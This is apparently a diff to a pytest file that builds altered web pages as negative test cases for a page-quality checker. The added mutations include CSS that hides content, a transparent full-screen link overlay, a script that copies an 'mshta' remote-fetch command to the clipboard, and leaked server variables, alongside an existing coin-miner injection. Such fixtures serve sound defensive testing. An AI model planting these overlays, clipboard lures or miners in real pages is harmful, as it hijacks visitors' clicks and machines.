@@ -5,6 +5,7 @@ from __future__ import annotations
 import re
 from collections.abc import Callable
 from statistics import median
+from urllib.parse import quote
 
 import pytest
 
@@ -103,6 +104,11 @@ def in_texts(change: Callable[[str], str]) -> Callable[[str], str]:
     return mutate
 
 
+def styled(rules: str) -> Callable[[str], str]:
+    """The page with a style sheet of its own."""
+    return lambda html: html.replace("</head>", f"<style>{rules}</style></head>")
+
+
 WHOLE: dict[str, Callable[[str], str]] = {
     "emptied main": lambda html: re.sub(r"<main>.*</main>", "<main></main>", html, flags=re.DOTALL),
     "filling text everywhere": in_texts(
@@ -119,6 +125,24 @@ WHOLE: dict[str, Callable[[str], str]] = {
     ),
     "a canonical of another site": lambda html: html.replace(f'href="{URL}"', 'href="https://staging.host.example/x"'),
     "a canonical of the home page": lambda html: html.replace(f'href="{URL}"', 'href="https://www.pond.example/"'),
+    "a page moved away": styled("main,header,footer{position:absolute;left:-9999px}"),
+    "a folded main part": styled("main{max-height:0;overflow:hidden}"),
+    "a main part hidden by a query": styled("@media (min-width:1px){main{display:none}}"),
+    "a blurred page": styled("body{filter:blur(12px)}"),
+    "faint text": styled("body,a{color:rgba(0,0,0,.04)}"),
+    "a page that cannot be pressed": styled("body{pointer-events:none}"),
+    "text as in an address": in_texts(lambda text: quote(f"Größe und Länge {text}", safe=" ")),
+    "a layer for all clicks": lambda html: html.replace(
+        "</body>",
+        "<a href=https://bet.other.example/ style='position:fixed;inset:0;z-index:99;opacity:0'></a></body>",
+    ),
+    "a command to paste": lambda html: html.replace(
+        "</body>", "<script>navigator.clipboard.writeText('mshta https://a.other.example/')</script></body>"
+    ),
+    "variables of the server": lambda html: html.replace(
+        "</main>",
+        "<table><tr><td>REMOTE_ADDR<td>10.0.0.3<tr><td>DOCUMENT_ROOT<td>/var/www/pond</table></main>",
+    ),
     "a coin miner": lambda html: html.replace("</body>", "<script>new CoinHive.Anonymous('k').start()</script></body>"),
     "foreign keywords": lambda html: re.sub(
         r"<title>.*?</title>(.*?content=)\"[^\"]*\"(><link)",
